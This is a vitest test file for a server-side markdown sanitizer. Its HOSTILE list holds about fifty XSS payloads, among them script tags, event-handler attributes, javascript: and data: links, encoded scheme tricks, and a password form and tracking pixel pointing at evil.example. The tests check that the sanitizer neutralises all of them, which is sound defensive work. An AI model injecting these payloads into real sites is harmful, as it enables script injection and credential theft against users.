import { describe, expect, it } from 'vitest';
import { renderInline, renderMarkdown } from '../../src/lib/server/markdown';

/**
 * The one sanitizer. marked passes raw HTML and `javascript:` links through, so these cases put
 * each kind of hostile input through both entry points and check what survives.
 */

const ALLOWED_TAGS = new Set([
	'p',
	'em',
	'strong',
	'a',
	'ul',
	'ol',
	'li',
	'blockquote',
	'code',
	'pre',
	'br',
	'h3',
	'h4',
	'del'
]);

/** Every tag name and attribute in a fragment of HTML (a fragment the sanitizer wrote). */
function inventory(html: string) {
	const tags = [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)];
	return {
		tags: [...new Set(tags.map((m) => m[1].toLowerCase()))],
		attributes: tags.flatMap((m) =>
			[...m[2].matchAll(/([^\s=/]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/g)].map((a) => ({
				name: a[1].toLowerCase(),
				value: a[2].replace(/^["']|["']$/g, '')
			}))
		)
	};
}

function expectSafe(html: string) {
	const { tags, attributes } = inventory(html);
	for (const tag of tags) expect(ALLOWED_TAGS.has(tag), `<${tag}> in ${html}`).toBe(true);
	for (const { name, value } of attributes) {
		expect(['href', 'title', 'rel'], `${name}= in ${html}`).toContain(name);
		if (name === 'href') expect(value, html).toMatch(/^(https?:|mailto:|#|\/[^/]|[^:]*$)/i);
	}
}

const HOSTILE = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)><circle r="5"/></svg>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="data:text/html,<script>alert(1)</script>"></object>',
	'<embed src="javascript:alert(1)">',
	'<form action="https://evil.example"><input name="password"><button>Go</button></form>',
	'<style>body{display:none}</style>',
	'<div style="position:fixed;inset:0;background:red">overlay</div>',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<a href="javascript:alert(1)">click</a>',
	'<a href="JaVaScRiPt:alert(1)">click</a>',
	'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">click</a>',
	'<a href="java\tscript:alert(1)">tab</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
	'<a href="vbscript:msgbox(1)">vb</a>',
	'<a href="https://ok.example" onclick="alert(1)" style="color:red">ok</a>',
	'[click](javascript:alert(1))',
	'[click](JAVASCRIPT:alert(1))',
	'[click](data:text/html,<script>alert(1)</script>)',
	'[click]( javascript:alert(1) )',
	'[ref link][x]\n\n[x]: javascript:alert(1)',
	'<javascript:alert(1)>',
	'![tracker](https://evil.example/pixel.gif)',
	'![x](x "title" onerror=alert(1))',
	'<img src="https://evil.example/pixel.gif" width=1 height=1>',
	'<p onmouseover="alert(1)">hover</p>',
	'<details open ontoggle=alert(1)>',
	'<body onload=alert(1)>',
	'<marquee onstart=alert(1)>x</marquee>',
	'<video><source onerror="alert(1)"></video>',
	'<audio src=x onerror=alert(1)>',
	'<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<textarea><script>alert(1)</script></textarea>',
	'<scr<script>ipt>alert(1)</script>',
	'<img src=x onerror=alert(1)',
	'<<script>alert(1);//<</script>',
	'"><script>alert(1)</script>',
	'<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
	'<isindex action="javascript:alert(1)" type=image>',
	'<button formaction="javascript:alert(1)">x</button>',
	'<table background="javascript:alert(1)">',
	'<!--<img src="--><img src=x onerror=alert(1)//">',
	'<h3 id="x" class="y" style="color:red">heading</h3>',
	'`<script>alert(1)</script>`'
];

describe('renderMarkdown', () => {
	it('keeps the markdown an author writes', () => {
		expect(renderMarkdown('*She sighs.* **Firmly**, with `code`.')).toBe(
			'<p><em>She sighs.</em> <strong>Firmly</strong>, with <code>code</code>.</p>\n'
		);
		expect(renderMarkdown('- one\n- two')).toBe('<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n');
		expect(renderMarkdown('> quoted')).toContain('<blockquote>');
		expect(renderMarkdown('### Heading')).toBe('<h3>Heading</h3>\n');
		expect(renderMarkdown('~~gone~~')).toBe('<p><del>gone</del></p>\n');
	});

	it('keeps safe links and marks them noopener', () => {
		const html = renderMarkdown('[the article](https://example.org/a "Source")');
		expect(html).toBe(
			'<p><a href="https://example.org/a" title="Source" rel="noopener noreferrer nofollow">the article</a></p>\n'
		);
		expect(renderMarkdown('[mail](mailto:a@example.org)')).toContain('href="mailto:a@example.org"');
		expect(renderMarkdown('[rel](/principles/safe-space)')).toContain(
			'href="/principles/safe-space"'
		);
	});

	it.each(HOSTILE)('neutralises %s', (input) => {
		// Text that merely reads "onerror=" or "javascript:" is harmless once escaped; what
		// matters is which elements and attributes are left.
		expectSafe(renderMarkdown(input));
	});

	it('drops the contents of script, style, svg and iframe, not only the tags', () => {
		const html = renderMarkdown(
			'a<script>var secret = 1</script>b<style>.x{}</style>c<svg><text>svgtext</text></svg>d<iframe>frame</iframe>e'
		);
		expect(html).toBe('<p>abcde</p>\n');
	});

	it('keeps harmless text that only looks like markup as text', () => {
		expect(renderMarkdown('a < b and c > d')).toBe('<p>a &lt; b and c &gt; d</p>\n');
		expect(renderMarkdown('`<b>`')).toBe('<p><code>&lt;b&gt;</code></p>\n');
	});
});

describe('renderInline', () => {
	it('renders a client line without a wrapping paragraph', () => {
		expect(renderInline("I *don't* know.")).toBe("I <em>don't</em> know.");
	});

	it.each(HOSTILE)('neutralises %s', (input) => {
		// Text that merely reads "onerror=" or "javascript:" is harmless once escaped; what
		// matters is which elements and attributes are left.
		expectSafe(renderInline(input));
	});
});
